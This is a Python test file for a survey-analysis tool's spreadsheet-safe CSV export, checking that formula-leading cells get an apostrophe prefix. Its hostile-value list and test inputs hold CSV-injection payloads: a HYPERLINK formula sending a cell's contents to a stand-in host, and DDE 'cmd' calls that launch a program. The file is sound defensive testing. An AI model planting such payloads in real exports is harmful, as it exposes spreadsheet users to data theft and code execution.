"""Spreadsheet-safe CSV: formula prefixes defused (OWASP), numbers and plain text unchanged.

The CLI cases write hostile values through the real commands (``cxlens quarantine --export``,
``cxlens metrics -o``) and read the bytes back with Python's csv module, independently of the
writer.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from cxlens.cli import app
from cxlens.safe_export import FORMULA_START, neutralise, neutralise_frame, write_csv

runner = CliRunner(env={"COLUMNS": "250"})

#: Payloads from OWASP's CSV-injection page and the adversarial run (issue 18).
HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", HOSTILE)
def test_each_formula_prefix_gets_an_apostrophe(payload):
    assert payload[0] in FORMULA_START
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3.5", "+447946000018", "-1e-3", "12", "fine", "", "a=b"])
def test_plain_numbers_and_ordinary_text_are_kept(value):
    assert neutralise(value) == value


def test_non_text_values_pass_unchanged():
    for value in (-3.5, -2, None, True, pd.Timestamp("2025-01-01")):
        assert neutralise(value) is value


def test_already_neutralised_text_is_not_changed_again():
    assert neutralise(neutralise("=1+1")) == "'=1+1"


def test_a_frame_keeps_its_numbers_and_defuses_text_and_headers():
    frame = pd.DataFrame({"=cmd": ["@x", None, "ok"], "change": [-1.5, 2.0, -0.25]})
    out = neutralise_frame(frame)
    assert out.columns.tolist() == ["'=cmd", "change"]
    assert out["'=cmd"].iloc[0] == "'@x"
    assert pd.isna(out["'=cmd"].iloc[1]) and out["'=cmd"].iloc[2] == "ok"
    assert out["change"].tolist() == [-1.5, 2.0, -0.25]
    assert frame["=cmd"].tolist()[0] == "@x"  # the caller's frame is untouched


def test_write_csv_round_trips_through_the_csv_module(tmp_path):
    frame = pd.DataFrame({"comment": [*HOSTILE, 'say "hi", ok'], "n": range(7)})
    path = write_csv(frame, tmp_path / "sub" / "out.csv")
    rows = _cells(path)
    assert rows[0] == ["comment", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in HOSTILE] + ['say "hi", ok']
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(7)]


def test_cli_quarantine_export_defuses_rejected_values(tmp_path):
    ws = tmp_path / "acme.duckdb"
    src = tmp_path / "s.csv"
    src.write_text(
        "response_id,responded_at,nps\n"
        "r1,2024-01-01,9\n"
        '"=HYPERLINK(""http://x"")",2024-01-02,@SUM(A1)\n'
        "r3,2024-01-03,+1+1\n",
        encoding="utf-8",
    )
    assert (
        runner.invoke(app, ["ingest", str(src), "--as", "responses", "-w", str(ws)]).exit_code == 0
    )
    out = tmp_path / "rejected.csv"
    result = runner.invoke(app, ["quarantine", "-w", str(ws), "--export", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out)
    header, body = rows[0], rows[1:]
    values = [r[header.index("value")] for r in body]
    assert "'@SUM(A1)" in values and "'+1+1" in values
    # no cell of the file starts with a formula prefix
    assert not [c for r in body for c in r if c.startswith(FORMULA_START)]


def test_cli_metrics_output_defuses_group_names(tmp_path):
    ws = tmp_path / "acme.duckdb"
    src = tmp_path / "s.csv"
    lines = ["response_id,responded_at,nps,touchpoint"]
    lines += [f"r{i},2024-01-{i + 1:02d},{i % 11},=cmd|' /C calc'!A0" for i in range(20)]
    lines += [f"q{i},2024-02-{i + 1:02d},{10 - i % 11},billing" for i in range(20)]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert (
        runner.invoke(app, ["ingest", str(src), "--as", "responses", "-w", str(ws)]).exit_code == 0
    )
    out = tmp_path / "nps.csv"
    result = runner.invoke(
        app, ["metrics", "nps", "--by", "touchpoint", "--min-n", "5", "-w", str(ws), "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    got = pd.read_csv(out, keep_default_na=False)
    assert sorted(got["touchpoint"]) == ["'=cmd|' /C calc'!A0", "billing"]
    # numbers stay numbers: NPS of 0..10 repeated (promoters 9,10; detractors 0..6) by hand
    first = [i % 11 for i in range(20)]
    expected = 100 * (sum(v >= 9 for v in first) - sum(v <= 6 for v in first)) / 20
    row = got[got["touchpoint"].str.startswith("'")].iloc[0]
    assert row["n"] == 20 and row["value"] == pytest.approx(expected)
